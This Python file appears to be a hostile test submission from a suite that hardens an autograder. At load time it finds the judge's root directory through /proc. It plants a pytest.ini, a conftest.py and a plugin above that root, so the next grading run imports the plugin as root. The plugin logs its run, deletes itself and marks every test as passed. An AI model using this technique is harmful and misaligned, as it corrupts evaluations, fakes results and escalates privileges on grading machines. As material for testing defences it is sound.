"""My notebook is right, but when it is loaded it leaves a pytest.ini and a pytest plugin above the grading folder, so the next grading loads my plugin.

expect-fail: none
hostile: at load time walks up its parent processes' /proc/<pid>/cmdline to the judge's --root, and writes pytest.ini ("pythonpath = ." and "addopts = -p rnnkit_hostile_plugin"), rnnkit_hostile_plugin.py and conftest.py into every writable ancestor of that root (/tmp for make grade and make test); pytest finds an ini file above the test path even with --rootdir, so the NEXT grading imports the plugin in the judge, as root: it appends to /tmp/rnnkit-hostile-pwned, deletes the planted files (one shot, and inert 10 minutes after planting) and returns a passing report for every test (the stencil then scores 100); a fixed grader runs pytest with its own -c config from a root-only folder: nothing planted is ever loaded and this submission's own files are deleted
graded-parts: windows
"""


PLUGIN_NAME = "rnnkit_hostile_plugin"


PLUGIN = """
import os, sys, time
import pytest
from _pytest.reports import TestReport

HERE = os.path.dirname(os.path.abspath(__file__))
FRESH = time.time() - os.path.getmtime(os.path.abspath(__file__)) < 600  # inert 10 minutes after planting
with open("/tmp/rnnkit-hostile-pwned", "a") as log:
    log.write(f"{time.ctime()}: loaded by pid {os.getpid()} uid {os.getuid()} fresh={FRESH} argv={sys.argv}\\n")
for name in ("pytest.ini", "conftest.py", "rnnkit_hostile_plugin.py"):  # one shot: gone before anyone looks
    try:
        os.unlink(os.path.join(HERE, name))
    except OSError:
        pass


@pytest.hookimpl(tryfirst=True)
def pytest_runtest_makereport(item, call):
    if not FRESH or not (item.config.rootpath / "autograder" / "grade.py").exists():
        return None
    report = TestReport.from_item_and_call(item, call)
    report.outcome, report.longrepr = "passed", None
    return report
"""


INI = "[pytest]\npythonpath = .\naddopts = -p rnnkit_hostile_plugin\n"


CONFTEST = "import sys\nif 'rnnkit_hostile_plugin' not in sys.modules:\n    from rnnkit_hostile_plugin import *\n"


def _judge_root():
    pid = os.getppid()
    while pid > 1:
        try:
            args = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0")
            if b"--root" in args:
                return args[args.index(b"--root") + 1].decode()
            pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
        except (OSError, IndexError, ValueError):
            return None
    return None


def _plant():
    root = _judge_root()
    planted = []
    if root is None:
        return planted
    folder = os.path.dirname(os.path.abspath(root))
    while True:
        if os.access(folder, os.W_OK | os.X_OK):
            try:
                for name, text in (("pytest.ini", INI), (PLUGIN_NAME + ".py", PLUGIN), ("conftest.py", CONFTEST)):
                    path = os.path.join(folder, name)
                    with open(path, "w") as file:
                        file.write(text)
                    os.chmod(path, 0o644)
                    planted.append(path)
            except OSError:
                pass
        if folder == os.path.dirname(folder):
            return planted
        folder = os.path.dirname(folder)


PLANTED = _plant()
